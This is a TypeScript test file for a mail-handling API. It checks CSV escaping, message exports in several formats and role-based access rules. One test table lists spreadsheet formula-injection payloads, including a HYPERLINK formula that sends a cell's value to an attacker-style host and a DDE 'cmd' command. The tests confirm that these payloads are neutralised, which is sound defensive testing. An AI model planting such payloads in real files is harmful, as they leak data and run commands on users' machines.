import { type Role, StraymailError } from '@straymail/contracts';
import { createToken } from '@straymail/services';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fromBuffer } from 'yauzl';
import { type Office, openOffice } from '../../../packages/services/test/support.ts';
import { csvLine } from '../src/exports/csv.ts';
import { zipOf } from '../src/exports/zip.ts';
import { type RunningApi, startApi } from '../src/start.ts';

let office: Office;
let api: RunningApi;
const ids: string[] = [];
const raw = 'From: clerk@travel.example\r\nSubject: Leave\r\n\r\nFrom me: plain words\r\n';
const tokens = new Map<Role, string>();
const reason = 'for the owner';

beforeAll(async () => {
	office = await openOffice();
	api = await startApi({
		databaseUrl: office.url,
		http: { host: '127.0.0.1', port: 0 },
		publicUrl: 'http://localhost:3000',
		dashboardUrl: null,
		dns: { hosts: ['mx.stray.example'], tlsReportsTo: null, servers: [] },
		sealingPrivateKeyFile: office.files.sealingPrivateKey,
		searchKeyFile: office.files.searchKey,
		authSecretFile: office.files.authSecret,
		logger: pino({ level: 'silent' }),
	});
	for (const locked of [false, false, true])
		ids.push(await office.message({ raw, intendedDomain: 'army.mil', words: 'zirconium', locked }));
	for (const role of ['operator', 'analyst', 'auditor'] as const)
		tokens.set(role, (await createToken(office.as({}), { name: role, role, days: 1 })).token);
	tokens.set(
		'liaison',
		(await createToken(office.as({}), { name: 'army', role: 'liaison', organisation: 'army.mil', days: 1 })).token,
	);
});
afterAll(async () => {
	await api?.close();
	await office?.stop();
});

const ask = (body: object, role: Role = 'operator', url = '/api/exports/messages') =>
	api.app.inject({
		method: 'POST',
		url,
		headers: { authorization: `Bearer ${tokens.get(role)}` },
		payload: { reason, ...body },
	});

const collect = async (octets: AsyncIterable<Buffer>): Promise<Buffer[]> => {
	const pieces: Buffer[] = [];
	for await (const piece of octets) pieces.push(piece);
	return pieces;
};

const namesIn = (octets: Buffer): Promise<Map<string, Buffer>> =>
	new Promise((resolve, reject) => {
		const found = new Map<string, Buffer>();
		fromBuffer(octets, { lazyEntries: true }, (error, zip) => {
			if (error) return reject(error);
			zip.on('error', reject);
			zip.on('end', () => resolve(found));
			zip.on('entry', (entry) =>
				zip.openReadStream(entry, async (failure, stream) => {
					if (failure) return reject(failure);
					const pieces: Buffer[] = [];
					for await (const piece of stream) pieces.push(piece as Buffer);
					found.set(entry.fileName, Buffer.concat(pieces));
					zip.readEntry();
				}),
			);
			zip.readEntry();
		});
	});

describe('a cell of a CSV file', () => {
	it.each([
		'=1+1',
		'+1',
		'-1',
		'@SUM(A1)',
		'\t=1',
		'\r=1',
		'\n=1',
		' =1',
		'＝1',
		'＋1',
		'－1',
		'＠x',
		'=HYPERLINK("https://evil.example?x="&A1,"click")',
		"=cmd|'/C calc'!A0",
	])('that a spreadsheet would take for a formula is text: %j', (text) => {
		expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
	});

	it.each(['a', '', 'a=b', '1-1', "it's", 'x\n=1'])('that begins with nothing of the kind stays: %j', (text) => {
		expect(csvLine([text])).toBe(`"${text}"\r\n`);
	});

	it('stands in quotes, which are doubled; numbers stand bare', () => {
		expect(csvLine(['a "b", c;d', 12, true])).toBe('"a ""b"", c;d",12,true\r\n');
	});
});

describe('a zip file', () => {
	it('is broken off when an entry cannot be opened', async () => {
		async function* entries() {
			yield { name: 'a.eml', at: new Date(0), octets: Buffer.from('a') };
			throw new StraymailError('message-destroyed', 'gone');
		}
		await expect(collect(zipOf(entries()))).rejects.toMatchObject({ code: 'message-destroyed' });
	});

	it('may be empty', async () => {
		async function* none() {}
		expect((await namesIn(Buffer.concat(await collect(zipOf(none()))))).size).toBe(0);
	});
});

describe('exporting messages', () => {
	it('gives masked rows as CSV, never kept nor sniffed', async () => {
		const answer = await ask({ format: 'csv', query: 'zirconium' });
		expect(answer.statusCode).toBe(200);
		expect(answer.headers).toMatchObject({
			'content-type': 'text/csv; charset=utf-8; header=present',
			'cache-control': 'no-store',
			'x-content-type-options': 'nosniff',
			'x-straymail-exported': '3',
			'x-straymail-more': 'no',
		});
		expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="straymail-\d{8}-\d{4}\.csv"$/);
		const lines = answer.body.split('\r\n');
		expect(lines[0]).toContain('"id","received"');
		expect(lines).toHaveLength(5);
		expect(answer.body).toContain('"masked subject"');
		expect(answer.body).not.toContain('plain words');
	});

	it('gives the chosen ones as JSON Lines', async () => {
		const answer = await ask({ format: 'jsonl', ids: ids.slice(0, 1) });
		const rows = answer.body
			.trim()
			.split('\n')
			.map((line) => JSON.parse(line));
		expect(rows).toMatchObject([{ id: ids[0], subject: 'masked subject' }]);
		expect(rows[0]).not.toHaveProperty('locked');
	});

	it('gives one message as it came', async () => {
		const answer = await ask({ format: 'eml', ids: ids.slice(0, 1) });
		expect(answer.headers['content-type']).toBe('message/rfc822');
		expect(answer.headers['content-disposition']).toMatch(/\.eml"$/);
		expect(answer.body).toBe(raw);
	});

	it('gives several in a zip file, without those that bear a marking', async () => {
		const answer = await ask({ format: 'eml', query: 'zirconium' });
		expect(answer.headers).toMatchObject({ 'x-straymail-exported': '2', 'x-straymail-locked': '1' });
		const files = await namesIn(answer.rawPayload);
		expect([...files.keys()].toSorted()).toEqual(
			ids.slice(0, 2).map((id) => expect.stringMatching(new RegExp(`^\\d{8}T\\d{6}Z-${id}\\.eml$`))),
		);
		expect([...files.values()].map(String)).toEqual([raw, raw]);
	});

	it('gives one mbox file', async () => {
		const answer = await ask({ format: 'mbox', query: 'zirconium' });
		expect(answer.body.match(/^From clerk@travel\.example /gm)).toHaveLength(2);
		expect(answer.body).toContain('\n>From me: plain words\r\n');
	});

	it.each([
		['liaison', {}, 403, 'not-allowed'],
		['auditor', {}, 403, 'not-allowed'],
		['operator', { reason: 'x' }, 400, 'bad-request'],
		['operator', { format: 'pdf' }, 400, 'bad-request'],
		['operator', { ids: [] }, 400, 'bad-request'],
		['operator', { query: 'level:hihg' }, 400, 'search-syntax'],
	] as const)('refuses for %s with %j', async (role, body, status, code) => {
		const answer = await ask({ format: 'csv', ...body }, role);
		expect(answer.statusCode).toBe(status);
		expect(answer.json().error.code).toBe(code);
		expect(answer.headers['content-disposition']).toBeUndefined();
	});
});

describe('senders, organisations and the overview', () => {
	const get = (url: string, role: Role = 'operator') =>
		api.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${tokens.get(role)}` } });

	it('are there for those who work on messages, and nothing of them for a liaison', async () => {
		const army = await office.organisation('army.mil');
		for (const [url, role, status] of [
			['/api/senders/travel.example', 'analyst', 200],
			['/api/senders/travel.example', 'liaison', 403],
			['/api/senders/unknown.example', 'analyst', 404],
			['/api/organisations/strayed', 'analyst', 200],
			['/api/organisations/strayed', 'liaison', 403],
			[`/api/organisations/${army}`, 'operator', 200],
			[`/api/organisations/${army}?period=7d`, 'liaison', 403],
			['/api/overview', 'auditor', 200],
		] as const)
			expect((await get(url, role)).statusCode, `${role} ${url}`).toBe(status);
		expect((await get('/api/senders/travel.example')).json()).toMatchObject({ messages: 3, levels: { high: 3 } });
		expect((await get(`/api/organisations/${army}`)).json()).toMatchObject({ name: 'US Army', messages: 3 });
		expect((await get('/api/overview')).json()).toMatchObject({ messages: 3, receivers: [] });
	});

	it('are listed and exported', async () => {
		const listed = await ask({ text: 'travel' }, 'analyst', '/api/senders');
		expect(listed.json()).toMatchObject({ total: 1, items: [{ domain: 'travel.example', messages: 3, repeats: 1 }] });
		expect((await ask({}, 'liaison', '/api/senders')).statusCode).toBe(403);
		const file = await ask({ format: 'csv' }, 'analyst', '/api/exports/senders');
		expect(file.body.split('\r\n')[1]).toMatch(/^"travel\.example",3,3,0/);
		expect((await ask({ format: 'csv', reason: '' }, 'analyst', '/api/exports/senders')).statusCode).toBe(400);
	});
});
